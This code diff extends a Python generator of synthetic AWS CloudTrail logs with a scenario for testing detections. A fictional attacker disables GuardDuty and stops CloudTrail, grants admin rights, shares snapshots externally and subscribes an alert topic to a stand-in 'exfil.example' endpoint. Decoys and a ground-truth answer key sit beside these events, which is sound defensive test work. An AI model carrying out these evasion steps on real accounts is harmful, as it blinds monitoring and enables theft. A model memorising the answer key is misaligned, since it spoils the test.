@@ -77,10 +77,16 @@ class Scenario:
     events: list[tuple[str, str, dict]] = field(default_factory=list)  # (account, region, record)
     truth: dict = field(default_factory=dict)
     findings: list[dict] = field(default_factory=list)  # GuardDuty findings, as the S3 export writes them
+    # (account, region or None for all, start, end): no event is written there, as when logging is off.
+    silent: list[tuple[str, str | None, datetime, datetime]] = field(default_factory=list)
+
+    def silenced(self, account: str, region: str, when: datetime) -> bool:
+        return any(a == account and r in (None, region) and start <= when < end for a, r, start, end in self.silent)
 
     def call(self, when: datetime, account: str, region: str, identity: dict, name: str, request: dict | None,
              response: dict | None = None, *, source: str = "ec2.amazonaws.com", ip: str = "203.0.113.10",
-             agent: str = CLI_UA, error: tuple[str, str] | None = None, read_only: bool = False) -> dict:
+             agent: str = CLI_UA, error: tuple[str, str] | None = None, read_only: bool = False,
+             extra: dict | None = None) -> dict:
         record = {
             "eventVersion": "1.10",
             "userIdentity": identity,
@@ -102,6 +108,7 @@ class Scenario:
         }
         if error:
             record["errorCode"], record["errorMessage"] = error
+        record.update(extra or {})
         if "invokedBy" in identity and identity["type"] != "AWSService":
             record["sourceIPAddress"] = identity["invokedBy"]
         self.events.append((account, region, record))
@@ -300,7 +307,164 @@ def sg_incident(s: Scenario) -> None:
                    attacker_ip=ATTACKER_IP, attacker=MALLORY)
 
 
-STORIES: list[Callable[[Scenario], None]] = [sg_incident]
+# --- the detections story: every detection, done and attempted, beside decoys and a logging outage --
+
+DETECTIONS_DAY = START + timedelta(days=2)  # day 3 holds this story, and nothing else but noise
+DENIED = ("AccessDenied", "User is not authorized to perform this operation")
+
+
+def detections_story(s: Scenario) -> None:
+    """Each detection of the catalogue played once done and once refused (AccessDenied), with a decoy
+    beside it that looks alike and is not a hit; a StopLogging that silences the production account for
+    three hours until StartLogging; a region with three silent hours and no cause.
+
+    It draws from its own random source, so the stories and noise before and after it are unchanged.
+    """
+    d = Scenario(random.Random("detections"), events=s.events, truth=s.truth, findings=s.findings, silent=s.silent)
+    day = DETECTIONS_DAY
+    at = lambda h, m, sec=0: day + timedelta(hours=h, minutes=m, seconds=sec)  # noqa: E731
+    tokyo, virginia, ireland = REGIONS
+    mallory = role(PROD, "ops-admin", "mallory", "ASIAMALLORY000000001")
+    alice = user(PROD, "alice", "AKIAALICE00000000001")
+    erin = user(STAGING, "erin", "AKIAERIN000000000001")
+    hits, decoys = [], []
+    minute = iter(range(0, 24 * 60))  # one call a minute from 00:00, so no two share a time
+
+    def when() -> datetime:
+        m = next(minute)
+        return at(m // 60, m % 60)
+
+    def play(detection, account, region, source, name, request, response=None, *, identity=mallory, attempt=True, **kw):
+        """The call done, then (unless attempt=False) the same call refused."""
+        for error in ((None, DENIED) if attempt else (None,)):
+            r = d.call(when(), account, region, identity, name, request, response, source=source, ip=ATTACKER_IP,
+                       agent=BOTO_UA, error=error, **kw)
+            hits.append({"detection": detection, "event_id": r["eventID"], "event_name": name, "account": account,
+                         "outcome": "attempt" if error else "success", "event_time": r["eventTime"]})
+
+    def decoy(account, region, source, name, request, response=None, *, identity=alice, **kw):
+        r = d.call(when(), account, region, identity, name, request, response, source=source, ip="203.0.113.50", agent=CONSOLE_UA, **kw)
+        decoys.append({"event_id": r["eventID"], "event_name": name})
+
+    SNS_, EB_, CT_, GD_, EC2_, IAM_, S3_ = ("sns.amazonaws.com", "events.amazonaws.com", "cloudtrail.amazonaws.com",
+                                           "guardduty.amazonaws.com", "ec2.amazonaws.com", "iam.amazonaws.com", "s3.amazonaws.com")
+    topic = f"arn:aws:sns:{tokyo}:{PROD}:security-alerts"
+    # Notifications
+    play("sns_subscription_changed", PROD, tokyo, SNS_, "Unsubscribe", {"subscriptionArn": f"{topic}:0f1e2d3c"})
+    play("sns_subscription_changed", PROD, tokyo, SNS_, "Subscribe", {"topicArn": topic, "protocol": "https", "endpoint": "https://exfil.example/<hook>"})
+    play("sns_topic_deleted", PROD, tokyo, SNS_, "DeleteTopic", {"topicArn": topic})
+    play("sns_topic_policy_changed", PROD, tokyo, SNS_, "SetTopicAttributes", {"topicArn": topic, "attributeName": "Policy", "attributeValue": "{}"})
+    decoy(PROD, tokyo, SNS_, "SetTopicAttributes", {"topicArn": topic, "attributeName": "DisplayName", "attributeValue": "Alerts"})
+    decoy(PROD, tokyo, SNS_, "CreateTopic", {"name": "build-notices"})
+    play("eventbridge_rule_disabled", PROD, tokyo, EB_, "DisableRule", {"name": "guardduty-to-sns"})
+    play("eventbridge_security_rule_changed", PROD, tokyo, EB_, "PutRule",
+         {"name": "guardduty-to-sns", "eventPattern": json.dumps({"source": ["aws.guardduty"], "detail": {"severity": [99]}})})
+    decoy(PROD, tokyo, EB_, "PutRule", {"name": "nightly-report", "scheduleExpression": "cron(0 0 * * ? *)"})
+    # CloudTrail: a trail bucket learned from CreateTrail, its lifecycle shortened; the trail tampered with.
+    d.call(at(0, 0, 5), PROD, virginia, alice, "CreateTrail", {"name": "org-trail", "s3BucketName": "org-trail-logs-111111111111",
+                                                               "isMultiRegionTrail": True}, {"name": "org-trail"}, source=CT_, agent=CONSOLE_UA)
+    play("trail_bucket_changed", PROD, virginia, S3_, "PutBucketLifecycle",
+         {"bucketName": "org-trail-logs-111111111111", "LifecycleConfiguration": {"Rule": {"Status": "Enabled", "Expiration": {"Days": 1}}}})
+    decoy(PROD, virginia, S3_, "PutBucketLifecycle",
+          {"bucketName": "app-assets", "LifecycleConfiguration": {"Rule": {"Status": "Enabled", "Expiration": {"Days": 1}}}})
+    play("cloudtrail_updated", PROD, virginia, CT_, "UpdateTrail", {"name": "org-trail", "isMultiRegionTrail": False})
+    play("cloudtrail_selectors_reduced", PROD, virginia, CT_, "PutEventSelectors",
+         {"trailName": "org-trail", "eventSelectors": [{"readWriteType": "All", "includeManagementEvents": False}]})
+    decoy(PROD, virginia, CT_, "PutEventSelectors",
+          {"trailName": "org-trail", "eventSelectors": [{"readWriteType": "All", "includeManagementEvents": True}]})
+    play("cloudtrail_insights_disabled", PROD, virginia, CT_, "PutInsightSelectors", {"trailName": "org-trail", "insightSelectors": []})
+    play("cloudtrail_deleted", STAGING, virginia, CT_, "DeleteTrail", {"name": "staging-trail"}, identity=erin)
+    d.call(when(), STAGING, virginia, erin, "CreateTrail", {"name": "staging-trail", "s3BucketName": "staging-trail-logs"},
+           {"name": "staging-trail"}, source=CT_, ip="192.0.2.10", agent=CLI_UA)
+    restart = d.call(when(), STAGING, virginia, erin, "StartLogging", {"name": "staging-trail"}, None, source=CT_, ip="192.0.2.10", agent=CLI_UA)
+    # GuardDuty
+    play("guardduty_detector_deleted", STAGING, tokyo, GD_, "DeleteDetector", {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"})
+    play("guardduty_detector_disabled", PROD, tokyo, GD_, "UpdateDetector", {"detectorId": "d0", "enable": False})
+    decoy(PROD, tokyo, GD_, "UpdateDetector", {"detectorId": "d0", "findingPublishingFrequency": "FIFTEEN_MINUTES"})
+    play("guardduty_trusted_ip_list", PROD, tokyo, GD_, "CreateIPSet",
+         {"detectorId": "d0", "name": "ok", "format": "TXT", "location": "s3://attacker-bucket/ips.txt", "activate": True})
+    play("guardduty_auto_archive_filter", PROD, tokyo, GD_, "CreateFilter",
+         {"detectorId": "d0", "name": "quiet", "action": "ARCHIVE", "findingCriteria": {"criterion": {"severity": {"gte": 1}}}})
+    decoy(PROD, tokyo, GD_, "CreateFilter", {"detectorId": "d0", "name": "view", "action": "NOOP"})
+    play("guardduty_publishing_removed", PROD, tokyo, GD_, "DeletePublishingDestination", {"detectorId": "d0", "destinationId": "dest1"})
+    play("guardduty_member_disassociated", STAGING, tokyo, GD_, "DisassociateFromAdministratorAccount", {"detectorId": "d1"}, identity=erin)
+    # Other ways into an instance
+    play("ec2_instance_connect_key", PROD, tokyo, "ec2-instance-connect.amazonaws.com", "SendSSHPublicKey",
+         {"instanceId": "i-0aaa0000000000001", "instanceOSUser": "ec2-user", "sSHPublicKey": "ssh-ed25519 AAAA..."})
+    play("ec2_key_pair_imported", PROD, tokyo, EC2_, "ImportKeyPair", {"keyName": "backup-key"})
+    play("ssm_session_started", PROD, tokyo, "ssm.amazonaws.com", "StartSession", {"target": "i-0aaa0000000000001"})
+    play("ssm_command_sent", PROD, tokyo, "ssm.amazonaws.com", "SendCommand", {"documentName": "AWS-RunShellScript", "instanceIds": ["i-0aaa0000000000001"]})
+    nacl = {"networkAclId": "acl-0a1", "ruleNumber": 90, "egress": False, "ruleAction": "allow", "aclProtocol": "6",
+            "cidrBlock": "0.0.0.0/0", "portRange": {"from": 22, "to": 22}}
+    play("nacl_ssh_open", PROD, tokyo, EC2_, "CreateNetworkAclEntry", nacl)
+    decoy(PROD, tokyo, EC2_, "CreateNetworkAclEntry", {**nacl, "cidrBlock": "10.0.0.0/8"})
+    decoy(PROD, tokyo, EC2_, "ReplaceNetworkAclEntry", {**nacl, "portRange": {"from": 443, "to": 443}})
+    # Identity
+    play("root_used", SANDBOX, virginia, S3_, "ListBuckets", None, identity=root(SANDBOX))
+    signin = {"source": "signin.amazonaws.com"}
+    play("console_login_without_mfa", STAGING, virginia, "signin.amazonaws.com", "ConsoleLogin", None, {"ConsoleLogin": "Success"},
+         identity=erin, attempt=False, extra={"additionalEventData": {"MFAUsed": "No", "LoginTo": "https://console.aws.amazon.com/"}})
+    decoy(STAGING, virginia, "signin.amazonaws.com", "ConsoleLogin", None, {"ConsoleLogin": "Success"}, identity=erin,
+          extra={"additionalEventData": {"MFAUsed": "Yes"}})
+    failed = d.call(when(), STAGING, virginia, erin, "ConsoleLogin", None, {"ConsoleLogin": "Failure"}, ip=ATTACKER_IP, agent=BOTO_UA,
+                    extra={"errorMessage": "Failed authentication", "additionalEventData": {"MFAUsed": "No"}}, **signin)
+    hits.append({"detection": "console_login_failed", "event_id": failed["eventID"], "event_name": "ConsoleLogin", "account": STAGING,
+                 "outcome": "attempt", "event_time": failed["eventTime"]})
+    play("access_key_for_other_user", PROD, tokyo, IAM_, "CreateAccessKey", {"userName": "ci-bot"})
+    decoy(PROD, tokyo, IAM_, "CreateAccessKey", {"userName": "alice"})
+    play("iam_user_created", PROD, tokyo, IAM_, "CreateUser", {"userName": "svc-backup"})
+    play("iam_admin_policy_attached", PROD, tokyo, IAM_, "AttachUserPolicy", {"userName": "svc-backup", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
+    decoy(PROD, tokyo, IAM_, "AttachUserPolicy", {"userName": "alice", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"})
+    trust = {"Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999988887777:root"}, "Action": "sts:AssumeRole"}]}
+    play("role_trust_external", PROD, tokyo, IAM_, "UpdateAssumeRolePolicy", {"roleName": "ops-admin", "policyDocument": json.dumps(trust)})
+    own = {"Statement": [{"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{PROD}:root"}, "Action": "sts:AssumeRole"}]}
+    decoy(PROD, tokyo, IAM_, "UpdateAssumeRolePolicy", {"roleName": "ops-admin", "policyDocument": json.dumps(own)})
+    play("resource_shared_externally", PROD, tokyo, EC2_, "ModifySnapshotAttribute",
+         {"snapshotId": "snap-0a1", "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": {"add": {"items": [{"userId": "999988887777"}]}}})
+    decoy(PROD, tokyo, EC2_, "ModifySnapshotAttribute",
+          {"snapshotId": "snap-0a1", "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": {"remove": {"items": [{"userId": "999988887777"}]}}})
+    play("s3_public_access", PROD, tokyo, S3_, "DeleteBucketPublicAccessBlock", {"bucketName": "customer-exports", "publicAccessBlock": ""})
+    play("config_recorder_stopped", PROD, tokyo, "config.amazonaws.com", "StopConfigurationRecorder", {"configurationRecorderName": "default"})
+    play("kms_key_deletion", PROD, tokyo, "kms.amazonaws.com", "ScheduleKeyDeletion", {"keyId": "mrk-0a1", "pendingWindowInDays": 7})
+    play("flow_logs_deleted", PROD, tokyo, EC2_, "DeleteFlowLogs", {"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": "fl-0a1"}}})
+    play("organization_left", SANDBOX, virginia, "organizations.amazonaws.com", "LeaveOrganization", None, identity=root(SANDBOX))
+    # The root's LeaveOrganization calls are root use too.
+    hits += [{**h, "detection": "root_used"} for h in hits if h["detection"] == "organization_left"]
+
+    # The outage: mallory's StopLogging silences the production account in every region until alice restarts it.
+    d.call(at(13, 58), PROD, virginia, mallory, "StopLogging", {"name": f"arn:aws:cloudtrail:{virginia}:{PROD}:trail/org-trail"},
+           source=CT_, ip=ATTACKER_IP, agent=BOTO_UA, error=DENIED)
+    stop = d.call(at(13, 59), PROD, virginia, mallory, "StopLogging", {"name": f"arn:aws:cloudtrail:{virginia}:{PROD}:trail/org-trail"},
+                  None, source=CT_, ip=ATTACKER_IP, agent=BOTO_UA)
+    start = d.call(at(17, 0), PROD, virginia, alice, "StartLogging", {"name": "org-trail"}, None, source=CT_, agent=CONSOLE_UA)
+    hits += [{"detection": "cloudtrail_stopped", "event_id": e["eventID"], "event_name": "StopLogging", "account": PROD,
+              "outcome": o, "event_time": e["eventTime"]} for e, o in ((d.events[-3][2], "attempt"), (stop, "success"))]
+    s.silent += [(PROD, None, at(13, 59, 1), at(17, 0)), (SANDBOX, ireland, at(3, 0), at(6, 0))]
+    # A heartbeat in every account, region and hour, as AWS services keep a real trail busy.
+    agent = service("cloudtrail.amazonaws.com")
+    for hour in range(DAYS * 24):
+        for account in ACCOUNTS:
+            for region in REGIONS:
+                t = START + timedelta(hours=hour, minutes=30)
+                if not s.silenced(account, region, t):
+                    d.call(t, account, region, agent, "GenerateDataKey", {"keySpec": "AES_256"}, None,
+                           source="kms.amazonaws.com", ip="cloudtrail.amazonaws.com", agent="cloudtrail.amazonaws.com", read_only=True)
+
+    gaps = [{"kind": "no_events", "account": PROD, "region": r, "start": iso(at(14, 0)), "end": iso(at(17, 0)), "hours": 3.0}
+            for r in sorted(REGIONS)]
+    gaps.append({"kind": "no_events", "account": SANDBOX, "region": ireland, "start": iso(at(3, 0)), "end": iso(at(6, 0)), "hours": 3.0})
+    deleted = next(h for h in hits if h["detection"] == "cloudtrail_deleted" and h["outcome"] == "success")
+    outages = [
+        {"kind": "trail_deleted", "account": STAGING, "trail": "staging-trail", "start": deleted["event_time"],
+         "end": restart["eventTime"], "ongoing": False, "event_id": deleted["event_id"]},
+        {"kind": "logging_stopped", "account": PROD, "trail": "org-trail", "start": stop["eventTime"], "end": start["eventTime"],
+         "ongoing": False, "event_id": stop["eventID"], "actor": "arn:aws:iam::111111111111:role/ops-admin (session mallory)"},
+    ]
+    s.truth["detections"] = {"window": [iso(day), iso(day + timedelta(days=1))], "hits": hits, "decoys": decoys,
+                             "gaps": gaps, "outages": outages}
+
+
+STORIES: list[Callable[[Scenario], None]] = [sg_incident, detections_story]
 
 
 # --- GuardDuty findings, as the S3 export writes them ---------------------------------------------
@@ -532,6 +696,8 @@ def noise(s: Scenario, count: int) -> None:
         identity, agent, ip = s.rng.choice(identities[account])
         when = START + timedelta(seconds=s.rng.randrange(span))
         s.call(when, account, region, identity, name, request, None, source=source, ip=ip, agent=agent, read_only=read_only)
+        if s.silenced(account, region, when):
+            s.events.pop()  # drawn all the same, so the rest of the noise does not depend on the silences
 
 
 # --- writing --------------------------------------------------------------------------------------
